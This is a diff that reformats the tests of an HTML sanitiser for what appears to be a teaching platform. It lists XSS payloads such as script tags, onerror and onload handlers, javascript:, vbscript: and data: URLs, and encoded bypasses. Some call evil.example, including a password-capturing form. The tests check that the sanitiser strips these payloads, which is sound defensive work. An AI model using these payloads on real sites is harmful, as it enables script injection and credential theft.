@@ -22,22 +22,55 @@ describe('what teachers write stays', () => {
     ['<audio src="/api/sys/common/static/a.mp3" controls=""></audio>'],
   ])('%s', (html) => expect(sanitise(html).replaceAll('=""', '')).toBe(html.replaceAll('=""', '')))
 
-  test('a link opens without a way back to this window', () => expect(sanitise('<a href="https://a.example" target="_blank">看</a>')).toBe('<a href="https://a.example" target="_blank" rel="noopener noreferrer">看</a>'))
+  test('a link opens without a way back to this window', () =>
+    expect(sanitise('<a href="https://a.example" target="_blank">看</a>')).toBe(
+      '<a href="https://a.example" target="_blank" rel="noopener noreferrer">看</a>',
+    ))
 
-  test('and cannot talk its way out of that', () => expect(sanitise('<a href="https://a.example" rel="opener">看</a>')).toContain('rel="noopener noreferrer"'))
+  test('and cannot talk its way out of that', () =>
+    expect(sanitise('<a href="https://a.example" rel="opener">看</a>')).toContain('rel="noopener noreferrer"'))
 })
 
 describe('what runs goes', () => {
   test.each([
-    '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</script>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<math><mi xlink:href="javascript:alert(1)">',
-    '<img src=x onerror=alert(1)>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>', '<p onclick="alert(1)">', '<a href="javascript:alert(1)">x</a>', '<a href=" java\nscript:alert(1)">x</a>',
-    '<a href="&#106;avascript:alert(1)">x</a>', '<a href="vbscript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<img src="javascript:alert(1)">', '<iframe src="https://evil.example"></iframe>',
-    '<object data="x"></object>', '<embed src="x">', '<form action="https://evil.example"><input name="password"><button>登录</button></form>', '<base href="https://evil.example">', '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    '<link rel="stylesheet" href="https://evil.example/a.css">', '<style>body{display:none}</style>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>',
-    '<video src="data:text/html,x"></video>', '<video src="javascript:alert(1)"></video>', '<!--[if IE]><script>alert(1)</script><![endif]-->', '<plaintext>', '<xmp><script>alert(1)</script></xmp>', '<textarea><script>alert(1)</script></textarea>',
+    '<script>alert(1)</script>',
+    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+    '<scr<script>ipt>alert(1)</script>',
+    '<svg onload=alert(1)>',
+    '<svg><script>alert(1)</script></svg>',
+    '<math><mi xlink:href="javascript:alert(1)">',
+    '<img src=x onerror=alert(1)>',
+    '<body onload=alert(1)>',
+    '<details open ontoggle=alert(1)>',
+    '<video><source onerror=alert(1)>',
+    '<p onclick="alert(1)">',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href=" java\nscript:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>',
+    '<a href="vbscript:alert(1)">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<img src="javascript:alert(1)">',
+    '<iframe src="https://evil.example"></iframe>',
+    '<object data="x"></object>',
+    '<embed src="x">',
+    '<form action="https://evil.example"><input name="password"><button>登录</button></form>',
+    '<base href="https://evil.example">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<link rel="stylesheet" href="https://evil.example/a.css">',
+    '<style>body{display:none}</style>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<template><script>alert(1)</script></template>',
+    '<video src="data:text/html,x"></video>',
+    '<video src="javascript:alert(1)"></video>',
+    '<!--[if IE]><script>alert(1)</script><![endif]-->',
+    '<plaintext>',
+    '<xmp><script>alert(1)</script></xmp>',
+    '<textarea><script>alert(1)</script></textarea>',
   ])('%s', (html) => {
     const clean = sanitise(html)
-    expect(clean).not.toMatch(/<(?:script|iframe|object|embed|form|input|button|base|meta|link|style|svg|math|template|noscript|body|details|textarea|xmp|plaintext)\b/i)
+    expect(clean).not.toMatch(
+      /<(?:script|iframe|object|embed|form|input|button|base|meta|link|style|svg|math|template|noscript|body|details|textarea|xmp|plaintext)\b/i,
+    )
     // What stands inside a quoted value is a text.
     expect(clean.replace(/"[^"]*"/g, '""')).not.toMatch(/<[^>]*\son\w+\s*=/i)
     expect(clean).not.toMatch(/<[^>]*(?:java|vb)script:/i)
@@ -47,7 +80,13 @@ describe('what runs goes', () => {
   test('words between the marks stay', () => expect(sanitise('<div><blink>你好</blink></div>')).toBe('<div>你好</div>'))
 
   test('what is cleaned twice is as clean as once', () => {
-    for (const html of ['<p>a<b>c', '<img src=x onerror=alert(1)>', '&lt;script&gt;', '<a href="https://a.example?x=1&y=2">z</a>']) expect(sanitise(sanitise(html))).toBe(sanitise(html))
+    for (const html of [
+      '<p>a<b>c',
+      '<img src=x onerror=alert(1)>',
+      '&lt;script&gt;',
+      '<a href="https://a.example?x=1&y=2">z</a>',
+    ])
+      expect(sanitise(sanitise(html))).toBe(sanitise(html))
   })
 })
 
